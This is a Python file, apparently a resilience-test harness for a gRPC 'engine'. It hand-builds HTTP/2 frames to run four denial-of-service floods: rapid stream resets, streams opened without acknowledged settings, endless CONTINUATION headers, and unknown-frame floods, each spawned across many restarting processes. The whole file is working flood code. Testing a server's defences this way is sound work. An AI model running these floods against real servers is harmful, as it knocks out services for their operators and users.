"""HTTP/2 by hand (RFC 9113), for what no client library does: frames, and attacks made of them. Each attack is a
process of its own, since one thread of Python is not enough of a flood:

    python3 frames.py resets HOST:PORT     begins calls and resets them, as fast as they are taken
    python3 frames.py early HOST:PORT      begins calls and never acknowledges how many it may
    python3 frames.py endless HOST:PORT    one header in CONTINUATION frames without an end
    python3 frames.py unknown HOST:PORT    calls, and frames without an end that are nothing
"""

import contextlib
import socket
import struct
import subprocess
import sys
import time

DATA, HEADERS, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 8, 9
ACK, END_STREAM, END_HEADERS, INITIAL_WINDOW_SIZE = 1, 1, 4, 4
CANCEL = struct.pack(">I", 8)
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"


def literal(name, value):
    """A field of HPACK without Huffman's code and outside of the table."""
    return b"\0" + b"".join(bytes([len(text)]) + text for text in (name, value))


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def head(path):
    return b"".join(literal(*field) for field in ((b":method", b"POST"), (b":scheme", b"http"), (b":authority", b"engine"),
                                                  (b":path", path), (b"te", b"trailers"), (b"content-type", b"application/grpc")))


def connected(address):
    host, port = address.rsplit(":", 1)
    return socket.create_connection((host, int(port)), timeout=20)


def resets(path=b"/casewheel.v1.Cases/GetCase", at_once=200):
    fields = head(path)
    for first in range(1, 2**31 - 2 * at_once, 2 * at_once):
        yield b"".join(frame(HEADERS, END_HEADERS, stream, fields) + frame(RST_STREAM, 0, stream, CANCEL)
                       for stream in range(first, first + 2 * at_once, 2))


def early(path=b"/casewheel.v1.Cases/GetCase", at_once=200):
    fields = head(path)
    for first in range(1, 2**31 - 2 * at_once, 2 * at_once):
        yield b"".join(frame(HEADERS, END_HEADERS, stream, fields) for stream in range(first, first + 2 * at_once, 2))


def endless(path=b"/casewheel.v1.Cases/GetCase", at_once=50):
    yield frame(HEADERS, 0, 1, head(path))
    more = b"".join(literal(b"x-%d" % n, b"y" * 100) for n in range(100))
    block = frame(CONTINUATION, 0, 1, more) * at_once
    while True:
        yield block


def unknown(path=b"/casewheel.v1.Admin/GetClock"):
    """Frames of no known type, which anybody may ignore, and a call for each MiB of them."""
    fields, nothing = head(path), frame(0x20, 0, 0, b"x" * 60) * 15_000
    for stream in range(1, 2**31, 2):
        yield frame(HEADERS, END_HEADERS, stream, fields) + frame(DATA, END_STREAM, stream, b"\0\0\0\0\0") + nothing


ATTACKS = {"resets": resets, "early": early, "endless": endless, "unknown": unknown}


def attack(address, pieces):
    """Sends until the engine ends the connection; never reads."""
    with contextlib.suppress(OSError), connected(address) as sock:
        sock.sendall(PREFACE + frame(SETTINGS, 0, 0))
        for piece in pieces:
            sock.sendall(piece)


def attack_again_and_again(address, pieces):
    while True:
        attack(address, pieces())
        time.sleep(0.01)


@contextlib.contextmanager
def under_attack(kind, address, connections):
    """So many connections that are attacked with again as soon as they are cut."""
    attackers = [subprocess.Popen([sys.executable, __file__, kind, address], stdin=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
                 for _ in range(connections)]
    try:
        yield
    finally:
        for attacker in attackers:
            attacker.kill()
        for attacker in attackers:
            attacker.wait(20)


if __name__ == "__main__":
    attack_again_and_again(sys.argv[2], ATTACKS[sys.argv[1]])
